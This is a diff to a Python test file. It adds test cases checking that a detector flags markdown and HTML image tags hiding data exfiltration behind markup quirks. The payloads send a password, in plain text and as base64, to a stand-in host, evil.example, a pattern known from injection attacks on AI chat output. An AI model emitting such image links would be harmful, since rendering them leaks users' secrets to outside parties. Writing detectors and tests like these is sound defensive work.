@@ -280,6 +280,16 @@ def test_exfil_an_image_url_too_long_to_inspect_whole_is_data(fill: str) -> None
     assert "too long to inspect" in findings[0].message
 
 
+@pytest.mark.parametrize("text", [
+    "![a](<https://evil.example/c?d=the users password is hunter2 and more>)",  # CommonMark <...> with spaces
+    '<img alt=">" src="https://evil.example/c?d=dXNlcj1hbGljZTtwYXNzd29yZD1odW50ZXIy">',  # ">" inside quotes
+    "<img " + 'title="x" ' * 500 + 'src="https://evil.example/c?d=dXNlcj1hbGljZTtwYXNzd29yZD1odW50ZXIy">',
+])
+def test_exfil_images_hidden_by_markup_quirks(text: str) -> None:
+    findings = exfil.detect(text, CTX)
+    assert ("exfil.image-data", Severity.CRITICAL) in [(f.rule_id, f.severity) for f in findings]
+
+
 def test_exfil_image_span_covers_markdown() -> None:
     text = "Sure. ![t](https://evil.example.net/l.png?nbml=" + _rand(40) + ") Anything else?"
     f = exfil.detect(text, CTX)[0]
